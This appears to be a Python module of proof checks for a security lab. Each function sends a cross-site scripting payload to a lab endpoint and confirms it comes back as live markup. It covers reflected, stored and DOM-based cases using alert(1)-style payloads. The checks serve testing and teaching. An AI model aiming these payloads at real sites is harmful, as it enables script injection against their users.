"""Exploits of cross-site scripting: markup of ours stands in the page as markup."""

import re

from lab.client import Lab


async def _text(lab: Lab) -> bool:
    return "<svg onload=alert(1)>" in (await lab.get("/find", term="<svg onload=alert(1)>")).text


async def _attribute(lab: Lab) -> bool:
    return (
        'value="" autofocus onfocus="alert(1)"'
        in (await lab.get("/filter", color='" autofocus onfocus="alert(1)')).text
    )


async def _script(lab: Lab) -> bool:
    return "var visitor = '';alert(1);//'" in (await lab.get("/greeting", visitor="';alert(1);//")).text


async def _url(lab: Lab) -> bool:
    return 'href="javascript:alert(1)"' in (await lab.get("/leaving", to="javascript:alert(1)")).text


async def _stored(lab: Lab) -> bool:
    await lab.post("/guestbook", message="<script>alert(31)</script>")
    return "<script>alert(31)</script>" in (await lab.get("/guestbook")).text


async def _stored_get(lab: Lab) -> bool:
    await lab.get("/notes", note="<script>alert(32)</script>")
    return "<script>alert(32)</script>" in (await lab.get("/notes")).text


async def _fragment(lab: Lab) -> bool:
    return bool(re.search(r"innerHTML = .*location\.hash", (await lab.get("/welcome")).text))


async def _query(lab: Lab) -> bool:
    return bool(re.search(r"innerHTML = .*location\.search", (await lab.get("/tabs", tab="news")).text))


PROOFS = {
    "xss-text": _text,
    "xss-attribute": _attribute,
    "xss-script": _script,
    "xss-url": _url,
    "xss-stored": _stored,
    "xss-stored-get": _stored_get,
    "xss-dom-fragment": _fragment,
    "xss-dom-query": _query,
}
